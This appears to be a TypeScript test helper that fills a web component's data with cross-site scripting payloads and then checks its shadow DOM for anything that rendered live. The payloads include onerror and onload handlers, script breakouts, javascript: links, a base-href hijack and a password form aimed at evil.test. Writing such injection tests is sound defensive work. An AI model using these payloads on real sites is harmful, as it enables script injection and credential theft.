/** Ways to become more than a text, each naming the place it was put in. */
const WAYS: readonly ((where: string) => string)[] = [
  (where) => `<img src="x" onerror="window.ran('${where}')">`,
  (where) => `"'><script>window.ran('${where}')</script>`,
  (where) => `</textarea></option></select><svg onload=window.ran('${where}')>`,
  (where) => `<a href="javascript:window.ran('${where}')">${where}</a>`,
  (where) => `<iframe srcdoc="<script>parent.ran('${where}')</script>"></iframe>`,
  (where) => `<style>*{display:none}</style><base href="https://evil.test/">${where}`,
  (where) => `<form action="https://evil.test/"><input name=password></form>${where}`,
  (where) => `\u202e<b>${where}</b>\u2066`,
]

let way = 0

/** Another way each time. @param where named by a test that fails */
export function hostile(where: string): string {
  way += 1
  return (WAYS[way % WAYS.length] ?? String)(where)
}

/** Every text of an answer made hostile, but those the element reads as code, and numbers and structure kept. */
export function poisoned<T>(value: T, kept: ReadonlySet<string>, where = ''): T {
  const poison = (inner: unknown, name: string): unknown => {
    if (typeof inner === 'string') return kept.has(name) ? inner : hostile(`${where}${name}`)
    if (Array.isArray(inner)) return inner.map((one) => poison(one, name))
    if (typeof inner !== 'object' || inner === null) return inner
    return Object.fromEntries(Object.entries(inner).map(([key, one]) => [key, poison(one, key)]))
  }
  // Only texts were put in the place of texts.
  return poison(value, '') as T
}

/** Names whose values are ids, codes, times or words of the contract: not what a server's text can reach. */
export const STRUCTURE: ReadonlySet<string> = new Set([
  'id',
  'name',
  'service',
  'state',
  'code',
  'type',
  'kind',
  'danger',
  'group',
  'role',
  'level',
  'source',
  'format',
  'unit',
  'since',
  'as_of',
  'at',
  'until',
  'from',
  'do',
  'month',
  'created_at',
  'finished_at',
  'due_at',
  'expires_at',
  'digest',
  'changed',
  'can',
  'choices',
  'widget',
  'required',
  'request_id',
  'pointer',
  'viewer',
  'key',
  'cause',
  'fingerprint',
  'field',
])

const BORN_OF_TEXT =
  'img, script, iframe, object, embed, base, meta, link, a[href], form[action], [src], [srcdoc], [style], b, svg[onload]'

/** What a text has become in an element that it must not: its elements and attributes, as they are written. */
export function comeAlive(element: Element): string[] {
  const root = element.shadowRoot
  if (root === null) return ['no shadow root']
  const found = [...root.querySelectorAll('*')].filter(
    (one) =>
      one.matches(BORN_OF_TEXT) ||
      [...one.attributes].some(
        ({ name, value }) => name.startsWith('on') || /^\s*javascript:/i.test(value),
      ),
  )
  return found.map(({ outerHTML }) => outerHTML.slice(0, 200))
}

/** All there is to read and all that is typed in an element. */
export function written(element: Element): string {
  const root = element.shadowRoot
  const typed = [...(root?.querySelectorAll<HTMLInputElement>('input, textarea, select') ?? [])]
  return [root?.textContent ?? '', ...typed.map(({ value }) => value)].join('\n')
}
